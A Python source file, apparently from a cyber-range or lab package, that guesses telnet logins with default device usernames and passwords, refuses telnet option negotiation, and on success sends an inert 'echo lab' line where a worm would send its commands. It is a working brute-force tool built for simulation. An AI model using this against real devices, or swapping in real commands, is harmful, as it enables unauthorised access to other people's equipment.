"""Guesses at a telnet login with the names and passwords that devices come with, a few in each connection.

Where it is let in it types one harmless line, as a worm would type its commands, and leaves.

References: RFC 854 (commands: DO, DONT, WILL, WONT).
"""

import socket
from collections.abc import Iterator, Sequence

from wardline_range.protocols import telnet
from wardline_range.real.programs import lifetime
from wardline_range.real.programs.calls import call, heard
from wardline_range.real.programs.logins import pairs
from wardline_range.real.programs.pace import beats

_COMMAND, _WILL, _WONT, _DO, _DONT = 255, 251, 252, 253, 254
_REFUSED_WITH = {_WILL: _DONT, _DO: _WONT}
_INERT = "echo lab"
_PROMPTS = (b"# ", b"$ ", b"> ")


def main(given: Sequence[str] | None = None) -> None:
    """Guess until the time is over, every pair was tried, or one is let in."""
    parser = lifetime.arguments(__doc__)
    parser.add_argument("--server", required=True)
    parser.add_argument("--port", type=int, default=telnet.PORT)
    parser.add_argument("--seconds", type=float, default=25.0)
    parser.add_argument("--every", type=float, default=0.7)
    told = parser.parse_args(given)
    pace = beats(told.seconds, told.every)
    guesses = (pair for pair, _ in zip(pairs(), pace, strict=False))
    for pair in guesses:
        try:
            with call(told.server, told.port) as talk:
                if _is_let_in(talk, pair, guesses):
                    return
        except OSError as error:
            print(f"{told.server}: {error}", flush=True)


def _is_let_in(talk: socket.socket, first: tuple[str, str], others: Iterator[tuple[str, str]]) -> bool:
    """Guess in one connection for as long as it asks again."""
    pair: tuple[str, str] | None = first
    told = _until(talk, telnet.LOGIN)
    while told and pair:
        talk.sendall(telnet.line(pair[0]))
        _until(talk, telnet.PASSWORD)
        talk.sendall(telnet.line(pair[1]))
        told = _until(talk, telnet.LOGIN, *_PROMPTS)
        if told.endswith(_PROMPTS):
            print(f"{':'.join(pair)} is let in", flush=True)
            talk.sendall(telnet.line(_INERT))
            heard(talk)
            return True
        pair = next(others, None) if told else None
    return False


def _until(talk: socket.socket, *ends: bytes) -> bytes:
    """What is said up to one of these, all options refused; nothing where the other end leaves or falls silent."""
    told = b""
    while not told.endswith(ends):
        piece = heard(talk)
        if not piece:
            return b""
        text, refusal = without_commands(piece)
        if refusal:
            talk.sendall(refusal)
        told += text
    return told


def without_commands(piece: bytes) -> tuple[bytes, bytes]:
    """What a piece says without telnet's commands, and what refuses the options that they offer or ask for."""
    text, refusal, at = bytearray(), bytearray(), 0
    while at < len(piece):
        if piece[at] != _COMMAND:
            text.append(piece[at])
            at += 1
            continue
        if piece[at + 1 : at + 2] and piece[at + 1] in _REFUSED_WITH:
            refusal += bytes((_COMMAND, _REFUSED_WITH[piece[at + 1]])) + piece[at + 2 : at + 3]
        at += 3
    return bytes(text), bytes(refusal)


if __name__ == "__main__":
    main()
